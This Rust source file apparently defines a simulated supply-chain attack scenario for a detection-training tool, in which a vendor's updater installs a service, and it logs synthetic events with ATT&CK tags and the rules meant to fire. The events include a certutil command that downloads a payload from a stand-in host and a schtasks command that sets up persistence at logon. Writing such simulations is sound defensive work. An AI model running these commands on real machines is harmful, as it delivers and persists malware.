//! A supplier's update that brings more than it should.

use super::{Script, Story};
use crate::device::windows::Event;

pub(super) const STORY: Story = Story {
    id: "supplier",
    title_vi: "Bản cập nhật của nhà cung cấp bị cài mã độc",
    title_en: "A supplier's update with something inside",
    attack: &["T1195.002", "T1543.003", "T1105", "T1053.005"],
    rules: &[
        "windows/download_with_system_tool",
        "windows/scheduled_task_suspicious_program",
        "windows/service_from_unusual_folder",
    ],
    steps,
};

fn steps(script: &mut Script<'_>) {
    let seat = script.seat("sv-ioc", 0);
    let updater = "C:\\Program Files\\NhaCungCap\\capnhat.exe";
    let path = "C:\\ProgramData\\NhaCungCap\\dichvu.exe";
    script.log("sv-ioc", 0.0, Event::file(&seat, updater, path));
    script.log("sv-ioc", 5.0, Event::service(&seat.computer, "DichVuNhaCungCap", path));
    let fetch = "certutil.exe -urlcache -split -f http://ban-va.test/b.bin C:\\ProgramData\\NhaCungCap\\b.bin";
    script.log(
        "sv-ioc",
        30.0,
        Event::process(&seat, path, "C:\\Windows\\System32\\certutil.exe", fetch),
    );
    let task = format!("schtasks.exe /create /sc onlogon /tn DongBo /tr {path}");
    script.log(
        "sv-ioc",
        36.0,
        Event::process(&seat, path, "C:\\Windows\\System32\\schtasks.exe", &task),
    );
}
